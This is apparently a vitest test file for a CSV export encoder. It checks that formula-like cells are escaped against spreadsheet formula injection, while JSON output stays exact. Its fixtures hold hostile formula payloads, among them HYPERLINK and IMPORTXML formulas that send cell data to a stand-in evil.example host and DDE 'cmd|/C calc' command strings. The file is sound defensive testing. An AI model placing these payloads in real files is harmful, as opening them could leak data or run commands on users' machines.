import { describe, expect, it } from "vitest";
import { createEncoder } from "./result-formats";
import type { EngineColumn, EngineRow } from "../engines/query-engine";

function csvOf(columns: EngineColumn[], rows: EngineRow[]): string {
  const encoder = createEncoder("csv", columns);
  return encoder.header() + encoder.rows(rows) + encoder.footer();
}

function jsonOf(columns: EngineColumn[], rows: EngineRow[]): string {
  const encoder = createEncoder("json", columns);
  return encoder.header() + encoder.rows(rows) + encoder.footer();
}

const text: EngineColumn = { name: "v", type: "VARCHAR" };

// Each hostile cell, and the exact bytes a spreadsheet reads for it: a leading ' (shown as
// text, never run) inside quotes, with inner quotes doubled.
const hostileText: [string, string][] = [
  ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"`],
  ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
  ["-2+3", `"'-2+3"`],
  ["-3+A1", `"'-3+A1"`],
  ["@SUM(1)", `"'@SUM(1)"`],
  ["\t=1", `"'\t=1"`],
  ["\r=1", `"'\r=1"`],
  ["=1+1", `"'=1+1"`],
  ["=", `"'="`],
  ["+", `"'+"`],
  ["-", `"'-"`],
  ["@", `"'@"`],
  ["=cmd|'/c calc'!A1;=2", `"'=cmd|'/c calc'!A1;=2"`],
  ['=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")', `"'=IMPORTXML(CONCAT(""http://evil.example/?"",A2),""//a"")"`],
  ["=1\r\n=2", `"'=1\r\n=2"`],
  ['@"quoted"', `"'@""quoted"""`],
  // A VARCHAR that reads like a number is still text: it keeps its text form.
  ["-3", `"'-3"`],
  ["+44 20 7946 0958", `"'+44 20 7946 0958"`],
];

// Cells that are not formulas keep their text, quoted only where RFC 4180 (or Excel's `;`
// separator) needs it.
const harmlessText: [string, string][] = [
  ["\uFF1D1+1", "\uFF1D1+1"], // full-width ＝: not a formula when a spreadsheet reads a file
  ["\uFF0B1", "\uFF0B1"], // full-width ＋
  ["a=1", "a=1"],
  ["'=1", "'=1"], // already starts with the text marker: not a formula
  ["x;=1+1", `"x;=1+1"`], // Excel with ; as list separator must not split it into a formula cell
  ['say "hi"', `"say ""hi"""`],
  ["two\nlines", `"two\nlines"`],
  ["a,b", `"a,b"`],
  [" padded ", `" padded "`],
  ["", ""],
];

describe("CSV export escapes cells a spreadsheet would run as formulas", () => {
  it.each(hostileText)("text %j is written as %s", (value, cell) => {
    expect(csvOf([text], [[value]])).toBe(`v\r\n${cell}\r\n`);
  });

  it.each(harmlessText)("text %j is written as %s", (value, cell) => {
    expect(csvOf([text], [[value]])).toBe(`v\r\n${cell}\r\n`);
  });

  // Numbers decide by type: the engine's numbers stay numbers a spreadsheet can add up.
  it.each<[unknown, string, string]>([
    [-3, "INTEGER", "-3"],
    [-2.5, "DOUBLE", "-2.5"],
    [-1e-7, "double", "-1e-7"],
    ["-9223372036854775808", "BIGINT", "-9223372036854775808"], // big integers arrive as strings
    ["-170141183460469231731687303715884105728", "HUGEINT", "-170141183460469231731687303715884105728"],
    ["-3.50", "DECIMAL(10,2)", "-3.50"],
    ["-3.50", "decimal(10, 2)", "-3.50"],
    ["-12", "bigint", "-12"],
    // A numeric column's string that is not an exact number is escaped like any text.
    ["-3+A1", "BIGINT", `"'-3+A1"`],
    ["-Infinity", "DOUBLE", `"'-Infinity"`],
    // A numeric-looking value of a text or date type is text.
    ["-3", "VARCHAR", `"'-3"`],
    ["-0001-01-01", "DATE", `"'-0001-01-01"`],
  ])("%j of type %s is written as %s", (value, type, cell) => {
    expect(csvOf([{ name: "n", type }], [[value]])).toBe(`n\r\n${cell}\r\n`);
  });

  it("escapes column names too (an alias is user input)", () => {
    expect(
      csvOf(
        [
          { name: '=HYPERLINK("http://evil.example")', type: "INTEGER" },
          { name: "ok", type: "INTEGER" },
        ],
        [[1, 2]],
      ),
    ).toBe(`"'=HYPERLINK(""http://evil.example"")",ok\r\n1,2\r\n`);
  });

  it("escapes nested values written as JSON only by their first character", () => {
    expect(csvOf([{ name: "l", type: "VARCHAR[]" }], [[["=1", "-2"]], [null], [{ a: "@x" }]])).toBe(`l\r\n"[""=1"",""-2""]"\r\n\r\n"{""a"":""@x""}"\r\n`);
  });

  it("keeps booleans and nulls as they were", () => {
    expect(
      csvOf(
        [{ name: "b", type: "BOOLEAN" }, text],
        [
          [true, null],
          [false, undefined],
        ],
      ),
    ).toBe("b,v\r\ntrue,\r\nfalse,\r\n");
  });
});

describe("JSON export stays exact", () => {
  it("writes every hostile cell unchanged, without the CSV escape", () => {
    const values = [...hostileText, ...harmlessText].map(([value]) => value);
    const out = jsonOf(
      [text, { name: "n", type: "BIGINT" }],
      values.map((v) => [v, "-9223372036854775808"]),
    );
    const parsed = JSON.parse(out) as { v: string; n: string }[];
    expect(parsed.map((row) => row.v)).toEqual(values);
    expect(parsed.every((row) => row.n === "-9223372036854775808")).toBe(true);
  });

  it("keeps numbers as numbers", () => {
    expect(jsonOf([{ name: "n", type: "INTEGER" }], [[-3]])).toBe('[\n{"n":-3}\n]\n');
  });
});
